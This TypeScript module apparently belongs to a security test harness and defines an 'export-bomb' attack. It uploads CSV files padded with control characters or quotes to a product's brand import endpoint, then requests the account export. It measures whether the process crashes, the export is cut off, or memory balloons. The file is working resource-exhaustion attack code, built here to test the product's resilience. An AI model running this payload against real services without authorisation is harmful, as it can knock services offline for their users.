import { get } from 'node:http'
import { addUp, type Attack, type Outcome, type Target } from './attack.ts'
import type { Person } from './person.ts'

type Bomb = { files: number; rows: number; description: string; isStoredWrong: (text: string) => boolean }

const header = 'name,description,averageSalePrice,sellThroughRate,garmentTypes'
const mostGrowthMb = 300

/** A member fills an account with what is largest as JSON and asks for all of it at once. */
export const exportBomb: Attack = {
  name: 'export-bomb',
  finding: 1,
  isThrough: `A file with control characters is taken, or an export ends the process, is cut off, or makes the process grow by more than ${mostGrowthMb} MB.`,
  setUp: async (target) => {
    const [files, rows] = target.isShort ? [2, 1000] : [5, 9900]
    const bombs: Record<string, Bomb> = {
      // JSON writes six bytes for each.
      'control characters': { files, rows, description: '\u0001'.repeat(1990), isStoredWrong: () => true },
      // Two bytes for each in a CSV file and in JSON.
      quotes: { files, rows: Math.round(rows / 2), description: '"'.repeat(1990), isStoredWrong: () => false },
    }
    const members = await Promise.all(Object.keys(bombs).map(() => target.meetMember({ ageDays: 60 })))
    return async () => {
      const parts: Record<string, Outcome> = {}
      for (const [index, [name, bomb]] of Object.entries(bombs).entries()) {
        const member = members[index]
        if (member) parts[name] = await explode(target, member, bomb)
        // The next bomb must meet a process that is there.
        await target.product.revive()
      }
      return addUp(parts)
    }
  },
}

async function explode({ product }: Target, member: Person, bomb: Bomb): Promise<Outcome> {
  let taken = 0
  for (let file = 0; file < bomb.files; file += 1) {
    const bytes = writeFile(member.username, file, bomb)
    const form = { field: 'file', name: 'brands.csv', type: 'text/csv', bytes }
    const { status } = await member.upload('/api/brands/csv', form)
    if (status === 200) taken += 1
  }
  const growth = await product.watchGrowth()
  const exported = await download(member)
  const grownMb = growth.stop()
  const isFatal = !product.isAlive()
  const isBroken = isFatal || exported.isCutOff || grownMb > mostGrowthMb
  return {
    tried: bomb.files + 1,
    through: (bomb.isStoredWrong(bomb.description) ? taken : 0) + (isBroken ? 1 : 0),
    notes: [
      `${taken} files taken`,
      `export ${exported.status}, ${Math.round(exported.bytes / 1e6)} MB, +${grownMb} MB`,
      ...(isFatal ? ['the process ended'] : []),
    ],
  }
}

function writeFile(username: string, file: number, { rows, description }: Bomb): Buffer {
  const cell = `"${description.replaceAll('"', '""')}"`
  const lines = Array.from({ length: rows }, (_, row) => `${username} ${file} ${row},${cell},,,`)
  return Buffer.from([header, ...lines].join('\n'))
}

/** Takes in an answer of any length without keeping it. */
function download(member: Person): Promise<{ status: number; bytes: number; isCutOff: boolean }> {
  return new Promise((resolve) => {
    let [status, bytes] = [0, 0]
    const end = (isCutOff: boolean) => resolve({ status, bytes, isCutOff })
    get(`${member.site}/api/account/export`, { headers: member.headers, timeout: 120_000 }, (response) => {
      status = response.statusCode ?? 0
      response.on('data', (chunk: Buffer) => (bytes += chunk.length))
      response.on('end', () => end(status >= 500))
      response.on('error', () => end(true))
    })
      .on('timeout', () => end(true))
      .on('error', () => end(true))
  })
}
